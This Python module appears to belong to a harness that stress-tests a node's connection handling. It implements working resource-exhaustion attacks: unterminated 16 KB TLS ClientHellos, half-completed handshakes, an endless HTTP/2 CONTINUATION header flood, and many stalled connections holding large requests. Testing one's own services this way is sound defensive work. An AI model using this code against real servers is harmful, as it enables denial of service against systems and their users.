"""What somebody can hold at a node by many connections, most of it before a call shows who it is.

Each attack runs until its time is over, as those of `attacks.py` do.
"""

from __future__ import annotations

import select
import socket
import ssl
import struct
import time
from collections import deque
from collections.abc import Callable
from contextlib import suppress

from attacks import Attack, on_threads
from frames import (
    CONTINUATION,
    DATA,
    END_STREAM,
    HEADERS,
    MAX_FRAME,
    Connection,
    frame,
    indexed_header,
    message,
    request_headers,
)
from workload import path

THREADS = 8
STRANGERS = 2_000
"""Connections of a stranger that are held at once."""

HELLO = 16_000
"""Bytes of a first message of TLS; a server takes as many of one record."""

MANY = 300
"""Connections of a member; a node allows 256."""

AGAIN = 8
"""Those that are opened anew in a turn."""

PART = 15_000
"""Bytes of a frame that continues headers."""

VALUE = 1_000_000
"""Bytes that a header is said to have."""

REQUEST, CALLS = 60_000, 3
"""Bytes of a whole request, and calls with one on each connection."""


def hellos(attack: Attack, until: float) -> int:
    """Begins TLS handshakes whose first message, of 16 KB, lacks its end."""
    body = b"\x01" + struct.pack(">I", HELLO)[1:] + b"\x03\x03" + bytes(HELLO - 100)
    return _hold(attack, until, b"\x16\x03\x01" + struct.pack(">H", len(body)) + body)


def half_handshakes(attack: Attack, until: float) -> int:
    """Begins TLS handshakes, and answers the server with 16 KB of a record that lacks its end."""
    outgoing = ssl.MemoryBIO()
    hello = attack.context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=attack.node_id)
    with suppress(ssl.SSLWantReadError):
        hello.do_handshake()
    record = b"\x17\x03\x03" + struct.pack(">H", HELLO + 100) + bytes(HELLO)
    return _hold(attack, until, outgoing.read() + record)


def _hold(attack: Attack, until: float, first: bytes) -> int:
    """Opens connections on several threads, sends the same on each, and falls silent."""
    host, port = attack.address.rsplit(":", 1)

    def connect() -> int:
        count = 0
        held: deque[socket.socket] = deque()
        while time.monotonic() < until:
            with suppress(OSError):
                one = socket.create_connection((host, int(port)), 5)
                one.setblocking(False)
                held.append(one)
                one.send(first)
                count += 1
            if len(held) > STRANGERS // THREADS:
                held.popleft().close()
        for one in held:
            one.close()
        return count

    return on_threads(*[connect] * THREADS)


def continuations(attack: Attack, until: float) -> int:
    """Sends, on many connections, headers of which the last one, of 1 MB, does not end."""
    endless = indexed_header(b"x", bytes(VALUE))[:-VALUE]
    block = request_headers(path("Echo"), attack.node_id) + endless
    more = frame(CONTINUATION, 1, b"v" * PART)

    def turn(connection: Connection, turns: int) -> None:
        connection.send(more if turns else frame(HEADERS, connection.next_stream(), block) + more)

    return _on_many(attack, until, turn)


def calls_then_silence(attack: Attack, until: float) -> int:
    """Makes calls with requests of 60 KB on many connections, some on each, and holds these."""
    body = message(b"x" * REQUEST)

    def turn(connection: Connection, turns: int) -> None:
        if turns < CALLS and connection.window >= len(body):
            stream = connection.open(path("Echo"))
            parts = (body[at : at + MAX_FRAME] for at in range(0, len(body), MAX_FRAME))
            data = b"".join(frame(DATA, stream, part) for part in parts)
            connection.send(data + frame(DATA, stream, flags=END_STREAM))
            connection.window -= len(body)

    return _on_many(attack, until, turn)


def _on_many(attack: Attack, until: float, turn: Callable[[Connection, int], None]) -> int:
    """Gives each of many connections a turn, again and again, and opens closed ones anew."""
    total, wanted = 0, MANY
    turns: dict[Connection, int] = {}
    while time.monotonic() < until:
        with suppress(OSError):
            while len(turns) < wanted and time.monotonic() < until:
                connection = attack.connect()
                turns[connection] = 0
                connection.await_settings()
        for connection in [*turns]:
            try:
                turn(connection, turns[connection])
                turns[connection] += 1
                total += 1
                while select.select([connection.socket], [], [], 0)[0]:
                    for _ in connection.receive():
                        pass
            except OSError:
                del turns[connection]
                connection.close()
        wanted = min(MANY, len(turns) + AGAIN)
    return total


KINDS: dict[str, Callable[[Attack, float], int]] = {
    "hellos without an end": hellos,
    "half handshakes": half_handshakes,
    "continuations": continuations,
    "calls, then silence": calls_then_silence,
}
